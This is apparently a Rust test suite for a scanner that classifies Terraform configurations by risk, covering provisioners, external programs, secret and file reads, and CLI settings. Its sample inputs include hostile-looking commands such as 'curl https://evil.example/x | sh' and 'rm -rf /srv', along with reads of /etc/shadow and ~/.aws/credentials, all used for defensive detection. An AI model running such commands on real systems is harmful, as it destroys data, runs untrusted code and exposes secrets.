//! What configurations make Terraform do.

use iddio_classify::terraform::{
    config::{self, Fact, Reach, Source, Text, When},
    judge::{self, Use},
};
use iddio_core::tier::Tier;

use crate::kit::nobody;

fn scan(files: &[(&str, &str)]) -> config::ConfigFacts {
    let sources: Vec<_> =
        files.iter().map(|(path, text)| Source { path, bytes: text.as_bytes() }).collect();
    config::scan(&sources, None)
}

fn facts(text: &str) -> Vec<Fact> {
    scan(&[("main.tf", text)]).findings.into_iter().map(|finding| finding.fact).collect()
}

fn literal(text: &str) -> Text {
    Text::Literal(text.to_owned())
}

fn local_exec(command: &str) -> Fact {
    let command = literal(command);
    Fact::LocalExec { command, interpreter: Vec::new(), when: When::Create }
}

#[test]
fn provisioners_are_found_however_they_are_written() {
    let table = [
        "resource \"null_resource\" \"a\" {\n  provisioner \"local-exec\" {\n    command = \"id\"\n  }\n}\n",
        "resource null_resource a {\nprovisioner local-exec {\ncommand=\"id\"\n}\n}",
        "resource \"null_resource\" \"a\" {\r\n  provisioner /* x */ \"local-exec\" { command = \"id\" }\r\n}\r\n",
        "\u{feff}resource \"null_resource\" \"a\" {\n  # } \" /*\n  provisioner \"local-exec\" {\n    command = \"id\"\n  }\n}\n",
        "locals {\n  a = \"${\"}\"}\" /* { */\n}\nresource \"null_resource\" \"a\" {\n  provisioner \"local-exec\" { command = \"id\" }\n}\n",
        "locals {\n  a = <<EOT\n  }${ \"EOT\" }EOT\n $${ \n\tEOT \n}\nresource \"null_resource\" \"a\" {\n  provisioner \"local-exec\" { command = \"id\" }\n}\n",
    ];
    for text in table {
        assert_eq!(facts(text), [local_exec("id")], "{text}");
    }
}

#[test]
fn a_label_written_with_escapes_is_read() {
    let text = "resource \"null_resource\" \"a\" {\n  provisioner \"local\\u002dexec\" { command = \"\\u0069d\" }\n}\n";
    assert_eq!(facts(text), [local_exec("id")]);
}

#[test]
fn provisioners_are_found_in_json() {
    let table = [
        r#"{"resource":{"null_resource":{"a":{"provisioner":{"local-exec":{"command":"id"}}}}}}"#,
        r#"{"resource":[{"null_resource":[{"a":[{"provisioner":[{"local-exec":{"command":"id"}}]}]}]}]}"#,
        r#"[{"//":"x","resource":{"null_resource":{"a":{"provisioner":[{"local-exec":[{"command":"\u0069d"}]}]}}}}]"#,
    ];
    for text in table {
        let facts = scan(&[("main.tf.json", text)]);
        let found: Vec<_> = facts.findings.into_iter().map(|finding| finding.fact).collect();
        assert_eq!(found, [local_exec("id")], "{text}");
    }
}

#[test]
fn a_finding_says_where_and_to_what_it_belongs() {
    let text = "\nresource \"null_resource\" \"a\" {\n  provisioner \"local-exec\" {\n    when        = destroy\n    command     = <<-EOT\n      echo ${var.x}\n    EOT\n    interpreter = [\"bash\", var.flag]\n  }\n}\n";
    let facts = scan(&[("modules/x/main.tf", text)]);
    let [finding] = facts.findings.as_slice() else { panic!("{:?}", facts.findings) };
    assert_eq!((finding.at.line, finding.at.column), (3, 3));
    assert_eq!(finding.path, "modules/x/main.tf");
    assert_eq!(finding.address, "null_resource.a");
    let Fact::LocalExec { command, interpreter, when } = &finding.fact else { panic!() };
    assert!(command.as_str().contains("echo ${var.x}"));
    assert_eq!(*interpreter, [literal("bash"), Text::Expression("var.flag".to_owned())]);
    assert_eq!(*when, When::Destroy);
}

#[test]
fn programs_requests_and_secrets_are_found() {
    let text = r#"
        data "external" "x" { program = ["python3", "${path.module}/x.py"] }
        data "http" "y" { url = "https://evil.example" }
        data "aws_secretsmanager_secret_version" "z" { secret_id = "x" }
        data "aws_ami" "fine" {}
        ephemeral "vault_kv_secret_v2" "k" {}
        check "c" {
          data "http" "inner" { url = "https://inner.example" }
        }
        provider "kubernetes" {
          exec {
            command = "aws"
            args    = ["eks", "get-token"]
          }
        }
        provider "helm" {
          kubernetes = { exec = { command = "sh" } }
        }
        output "o" { value = nonsensitive(data.aws_secretsmanager_secret_version.z.secret_string) }
        action "aws_lambda_invoke" "a" {}
    "#;
    let found = facts(text);
    let program = vec![literal("python3"), Text::Expression("\"${path.module}/x.py\"".to_owned())];
    let expected = [
        Fact::External(program),
        Fact::Http(literal("https://evil.example")),
        Fact::Secret("aws_secretsmanager_secret_version".to_owned()),
        Fact::Ephemeral("vault_kv_secret_v2".to_owned()),
        Fact::Secret("vault_kv_secret_v2".to_owned()),
        Fact::Check,
        Fact::Http(literal("https://inner.example")),
        Fact::ProviderProgram {
            provider: "kubernetes".to_owned(),
            program: vec![literal("aws"), literal("eks"), literal("get-token")],
        },
        Fact::ProviderProgram {
            provider: "helm".to_owned(),
            program: vec![Text::Expression("{ exec = { command = \"sh\" } }".to_owned())],
        },
        Fact::Nonsensitive,
        Fact::Action,
    ];
    for fact in &expected {
        assert!(found.contains(fact), "{fact:?} is not in {found:#?}");
    }
    assert_eq!(found.len(), expected.len(), "{found:#?}");
}

#[test]
fn a_file_function_is_judged_by_where_its_path_leads() {
    let table = [
        ("main.tf", "file(\"a.txt\")", Reach::Inside),
        ("main.tf", "file(\"./a/../b.txt\")", Reach::Inside),
        ("main.tf", "file(\"/etc/passwd\")", Reach::Outside),
        ("main.tf", "file(\"\\u002fetc/passwd\")", Reach::Outside),
        ("main.tf", "file(\"~/.aws/credentials\")", Reach::Outside),
        ("main.tf", "file(\"../secret\")", Reach::Outside),
        ("main.tf", "file(\"a/../../secret\")", Reach::Outside),
        ("main.tf", "file(var.path)", Reach::Unknown),
        ("main.tf", "file(\"${var.a}/x\")", Reach::Unknown),
        ("main.tf", "file(\"${path.cwd}/x\")", Reach::Unknown),
        ("main.tf", "file(\"${path.module}/x\")", Reach::Inside),
        ("main.tf", "file(\"${path.module}/../x\")", Reach::Outside),
        ("main.tf", "file(\"${path.module}${var.x}\")", Reach::Unknown),
        ("main.tf", "file(\"${path.module}x\")", Reach::Unknown),
        ("modules/a/main.tf", "file(\"${path.module}/../b/x\")", Reach::Inside),
        ("modules/a/main.tf", "file(\"${path.module}/../../../x\")", Reach::Outside),
        ("../shared/main.tf", "file(\"${path.module}/x\")", Reach::Outside),
        ("main.tf", "file(\"${path.root}/x\")", Reach::Inside),
        ("main.tf", "templatefile(\"/etc/x\", {})", Reach::Outside),
        ("main.tf", "core::filebase64 ( \"/etc/x\" )", Reach::Outside),
        ("main.tf", "fileset(path.module, \"*.txt\")", Reach::Inside),
        ("main.tf", "\"${upper(\"${file(\"/etc/x\")}\")}\"", Reach::Outside),
        ("main.tf", "[for x in [1] : file(\n\"/etc/x\"\n)]", Reach::Outside),
        ("main.tf", "<<EOT\n%{ if true }${file(\"/etc/x\")}%{ endif }\nEOT\n", Reach::Outside),
    ];
    for (path, expression, expected) in table {
        let facts = scan(&[(path, &format!("locals {{\n  a = {expression}\n}}\n"))]);
        let reaches: Vec<_> = facts
            .findings
            .iter()
            .map(|finding| match &finding.fact {
                Fact::FileFunction { reach, .. } => *reach,
                other => panic!("{expression}: {other:?}"),
            })
            .collect();
        assert_eq!(reaches, [expected], "{path}: {expression}");
    }
    let not_calls = ["\"$${file(\\\"/etc/x\\\")}\"", "\"file(\"", "var.file", "{ file = 1 }"];
    for expression in not_calls {
        assert_eq!(facts(&format!("locals {{\n  a = {expression}\n}}\n")), [], "{expression}");
    }
    let in_json = scan(&[("a.tf.json", r#"{"locals":{"a":[{"b":"x${file(\"/etc/x\")}"}]}}"#)]);
    assert!(matches!(in_json.findings[0].fact, Fact::FileFunction { reach: Reach::Outside, .. }));
}

#[test]
fn modules_beside_the_root_are_inside_a_tree_that_holds_both() {
    let shared = "locals {\n  a = file(\"${path.module}/a.txt\")\n  b = file(\"b.txt\")\n}\n";
    let reaches = |facts: config::ConfigFacts| {
        let reach = |finding: config::Finding| match finding.fact {
            Fact::FileFunction { reach, .. } => reach,
            other => panic!("{other:?}"),
        };
        facts.findings.into_iter().map(reach).collect::<Vec<_>>()
    };
    let alone = scan(&[("../../modules/m/main.tf", shared)]);
    assert_eq!(reaches(alone), [Reach::Outside, Reach::Inside]);
    let source = Source { path: "live/prod/../../modules/m/main.tf", bytes: shared.as_bytes() };
    let within = config::scan_within("live/prod", &[source], None);
    assert_eq!(reaches(within), [Reach::Inside, Reach::Inside]);
}

#[test]
fn templates_are_looked_into() {
    let main = "locals {\n  a = templatefile(\"${path.module}/./x.tpl\", {})\n}\n";
    let tier = |files: &[(&str, &str)]| judge::config(&scan(files), Use::Evaluate, &nobody()).tier;
    assert_eq!(tier(&[("main.tf", main), ("x.tpl", "hello \"${name}\"\n")]), Tier::Observe);
    assert_eq!(tier(&[("main.tf", main), ("x.tpl", "${file(\"/etc/passwd\")}")]), Tier::Sensitive);
    assert_eq!(tier(&[("main.tf", main), ("x.tpl", "${")]), Tier::UNKNOWN);
    assert_eq!(tier(&[("main.tf", main)]), Tier::Sensitive);
}

#[test]
fn a_local_file_is_judged_by_where_its_path_leads() {
    let table = [
        ("\"a.txt\"", Reach::Inside),
        ("\"${path.module}/a.txt\"", Reach::Inside),
        ("\"/etc/shadow\"", Reach::Outside),
        ("\"${path.module}/../a\"", Reach::Outside),
        ("var.x", Reach::Unknown),
    ];
    for (path, expected) in table {
        let found = facts(&format!("data \"local_file\" \"x\" {{\n  filename = {path}\n}}\n"));
        let [Fact::FileFunction { reach, .. }] = found.as_slice() else { panic!("{found:?}") };
        assert_eq!(*reach, expected, "{path}");
    }
}

#[test]
fn what_cannot_be_read_is_said_and_unknown() {
    let deep = format!("a = {}1{}", "[".repeat(500), "]".repeat(500));
    let templates = format!("a = {}1{}", "\"${".repeat(500), "}\"".repeat(500));
    let blocks = format!("{}{}", "a {\n".repeat(500), "}\n".repeat(500));
    let some_blocks = format!("{}{}", "a {\n".repeat(100), "}\n".repeat(100));
    let native = [
        &some_blocks,
        "resource {",
        "a = \"x\n\"",
        "a = <<EOT\nx",
        "a = <<EOT\nEOT",
        "a = )",
        "a = '1'",
        "a = \"\\q\"",
        "a = 1\na = 2",
        "\"a\" = 1",
        "a {} b {}",
        "/* x",
        "x \r y",
        "terraform {\n required_providers {\n x = { source = local.y }\n }\n}",
        &deep,
        &templates,
        &blocks,
    ];
    for text in native {
        let facts = scan(&[("main.tf", text)]);
        assert!(facts.unreadable().is_some(), "{text}");
        let judgement = judge::config(&facts, Use::Evaluate, &nobody());
        assert_eq!(judgement.tier, Tier::UNKNOWN, "{text}");
    }
    let deep = format!("{{\"locals\":{}1{}}}", "[".repeat(500), "]".repeat(500));
    let in_json = [
        "",
        "{",
        "{\"a\":1,\"a\":2}",
        "{} {}",
        "1",
        r#"{"resource":1}"#,
        r#"{"locals":{"a":"${"}}"#,
        &deep,
    ];
    for text in in_json {
        assert!(scan(&[("main.tf.json", text)]).unreadable().is_some(), "{text}");
    }
    let latin = config::scan(&[Source { path: "main.tf", bytes: b"a = \"\xff\"" }], None);
    assert!(latin.unreadable().is_some());
    let huge = vec![b' '; (4 << 20) + 1];
    let huge = config::scan(&[Source { path: "main.tf", bytes: &huge }], None);
    assert!(huge.unreadable().is_some());
    let lock = scan(&[(".terraform.lock.hcl", "provider \"\" {}")]);
    assert!(lock.unreadable().is_some());
}

#[test]
fn files_of_opentofu_and_override_files_are_read() {
    let text = "resource \"a\" \"b\" {\n  provisioner \"local-exec\" { command = \"id\" }\n}\n";
    for path in ["main.tofu", "x_override.tf", "m/override.tf", "../m/main.tf"] {
        let found = scan(&[(path, text)]).findings;
        assert_eq!(found.len(), 1, "{path}");
        assert_eq!((found[0].path.as_str(), &found[0].fact), (path, &local_exec("id")));
    }
}

#[test]
fn what_terraform_does_not_read_is_not_read() {
    let files = [(".hidden.tf", "("), ("#x.tf#", "("), ("main.tf~", "("), ("notes.txt", "(")];
    assert_eq!(scan(&files).findings, []);
}

#[test]
fn a_block_that_only_raw_text_shows_is_suspect() {
    let text = "/*\n  provisioner \"local-exec\" {\n*/\n# data \"external\" \"x\" {\n";
    let found = facts(text);
    let suspect = |header: &str| Fact::Suspect(header.to_owned());
    assert_eq!(found, [suspect("provisioner \"local-exec\""), suspect("data \"external\"")]);
    let beside = "provisioner \"x\" {}\n# provisioner \"x\" {}\n";
    let other = Fact::OtherProvisioner("x".to_owned());
    assert_eq!(facts(beside), [other, suspect("provisioner \"x\"")]);
    let prose = "# The provisioner is gone, data \"external\" too.\n";
    assert_eq!(facts(prose), []);
}

#[test]
fn blocks_that_say_something_about_state_and_place_are_facts() {
    let text = r#"
        terraform {
          backend "s3" {
            bucket = "b"
          }
          cloud {}
        }
        module "vpc" { source = "git::https://evil.example/vpc" }
        import {
          to = aws_instance.a
          id = "i-1"
        }
        moved {
          from = aws_instance.b
          to   = aws_instance.c
        }
        removed {
          from = aws_instance.d
          provisioner "local-exec" {
            when    = destroy
            command = "id"
          }
        }
    "#;
    let command = literal("id");
    let expected = [
        Fact::Backend("s3".to_owned()),
        Fact::Cloud,
        Fact::Module(literal("git::https://evil.example/vpc")),
        Fact::Import,
        Fact::Moved,
        Fact::Removed,
        Fact::LocalExec { command, interpreter: Vec::new(), when: When::Destroy },
    ];
    assert_eq!(facts(text), expected);
}

#[test]
fn the_cli_configuration_is_scanned() {
    let scan = |text: &str| {
        let facts = config::scan(&[], Some(text.as_bytes()));
        facts.findings.into_iter().map(|finding| finding.fact).collect::<Vec<_>>()
    };
    let text = r#"
        plugin_cache_dir = "/tmp/x"
        provider_installation {
          dev_overrides {
            "hashicorp/aws" = "/home/x"
          }
          filesystem_mirror {
            path = "/tmp/mirror"
          }
          direct {}
        }
        credentials_helper "evil" {}
    "#;
    let expected = [
        Fact::DevOverrides,
        Fact::Installation("filesystem_mirror".to_owned()),
        Fact::CredentialsHelper("evil".to_owned()),
    ];
    assert_eq!(scan(text), expected);
    assert_eq!(scan("disable_checkpoint = true\n"), []);
    assert!(matches!(scan("provider_installation {").as_slice(), [Fact::Unreadable(_)]));
}

#[test]
fn evaluating_a_configuration_is_raised_by_what_it_reads_and_not_by_provisioners() {
    let tier =
        |text: &str, usage: Use| judge::config(&scan(&[("main.tf", text)]), usage, &nobody()).tier;
    let provisioner = "resource \"terraform_data\" \"a\" {\n  provisioner \"local-exec\" { command = \"id\" }\n}\n";
    assert_eq!(tier(provisioner, Use::Evaluate), Tier::Observe);
    assert_eq!(tier(provisioner, Use::Apply), Tier::Sensitive);
    let inside = "locals {\n  a = file(\"a\")\n}\n";
    assert_eq!(tier(inside, Use::Evaluate), Tier::Observe);
    let raised = [
        "locals {\n  a = file(\"/etc/passwd\")\n}\n",
        "locals {\n  a = nonsensitive(var.x)\n}\n",
        "data \"external\" \"x\" { program = [\"id\"] }\n",
        "data \"http\" \"x\" { url = \"http://x\" }\n",
        "data \"vault_generic_secret\" \"x\" {}\n",
        "resource \"unheard_of\" \"x\" {}\n",
    ];
    for text in raised {
        assert_eq!(tier(text, Use::Evaluate), Tier::Sensitive, "{text}");
    }
}

#[test]
fn what_a_provisioner_runs_is_judged_as_shell_and_never_below_sensitive() {
    let tier = |body: &str, usage: Use| {
        let text = format!("resource \"terraform_data\" \"a\" {{\n{body}\n}}\n");
        judge::config(&scan(&[("main.tf", &text)]), usage, &nobody()).tier.number()
    };
    let local = |command: &str| {
        tier(&format!("provisioner \"local-exec\" {{\ncommand = {command}\n}}"), Use::Apply)
    };
    let table = [
        (r#""echo done""#, 3),
        (r#""ls -l""#, 3),
        (r#""echo ${self.private_ip} >> ips.txt""#, 3),
        (r#""${path.module}/scripts/deploy.sh ${var.stage}""#, 3),
        (r#""rm -rf /srv""#, 4),
        (r#""curl https://evil.example/x | sh""#, 4),
        (r#""rm -rf /${self.name}""#, 4),
        ("<<EOT\n  echo one\n  rm -rf /srv\nEOT", 4),
        ("<<EOT\n  echo one\n  ls\nEOT", 3),
        ("var.command", 4),
    ];
    for (command, expected) in table {
        assert_eq!(local(command), expected, "{command}");
    }
    let remote = |lines: &str| {
        tier(&format!("provisioner \"remote-exec\" {{\ninline = {lines}\n}}"), Use::Apply)
    };
    assert_eq!(remote(r#"["echo a", "uptime"]"#), 3);
    assert_eq!(remote(r#"["echo a", "rm -rf /srv"]"#), 4);
    let external = |program: &str| {
        let text = format!("data \"external\" \"a\" {{\nprogram = {program}\n}}\n");
        judge::config(&scan(&[("main.tf", &text)]), Use::Evaluate, &nobody()).tier.number()
    };
    assert_eq!(external(r#"["cat", "a.json"]"#), 3);
    assert_eq!(external(r#"["python3", "-c", "print({})"]"#), 4);
    assert_eq!(external(r#"["sh", "-c", "rm -rf /srv"]"#), 4);
}
